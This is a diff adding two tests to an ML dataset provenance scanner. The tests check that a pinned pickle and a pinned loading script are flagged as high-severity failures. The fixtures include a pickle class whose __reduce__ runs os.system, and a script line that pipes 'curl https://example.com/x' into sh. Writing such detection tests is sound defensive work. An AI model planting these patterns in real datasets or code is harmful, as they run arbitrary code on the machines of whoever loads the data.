@@ -720,3 +720,34 @@ def test_rows_in_a_format_not_counted_stop_the_count_whatever_its_suffix(
     # Two rows would be the BOM's `rows` and the size compared, though the data is elsewhere.
     assert count_rows(entries) is None
     assert count_rows(tuple(e for e in entries if e.relpath != extra)) == 2
+
+
+class _Reduce:
+    def __reduce__(self) -> tuple[Any, tuple[str]]:
+        return (os.system, ("echo owned",))
+
+
+def test_a_pinned_pickle_in_a_dataset_is_scanned_and_fails(pipeline: Pipeline) -> None:
+    import pickle
+
+    payload = pickle.dumps(_Reduce())
+    directory = write_dataset(pipeline.project.root, {"reviews.csv": ROWS, "README.md": CARD})
+    (directory / "features.pkl").write_bytes(payload)
+    pins = f'reviews.csv: "{digest(ROWS)}", features.pkl: "{digest(payload)}"'
+    declare(pipeline, f"path: data/reviews\nlicense: cc-by-4.0\npii: none\nfiles: {{{pins}}}\n")
+
+    result = pipeline.result("provenance[reviews::dataset]")
+
+    assert "MLS-PKL-001" in rules(result)
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
+
+
+def test_a_pinned_loading_script_in_a_dataset_is_scanned_and_fails(pipeline: Pipeline) -> None:
+    script = "import os\nos.system('curl https://example.com/x | sh')\n"
+    pins = f'reviews.csv: "{digest(ROWS)}", reviews.py: "{digest(script)}"'
+    extra = f"license: cc-by-4.0\npii: none\nfiles: {{{pins}}}\n"
+
+    result = local(pipeline, extra, reviews__csv=ROWS, README__md=CARD, reviews__py=script)
+
+    assert "MLS-CODE-002" in rules(result)
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
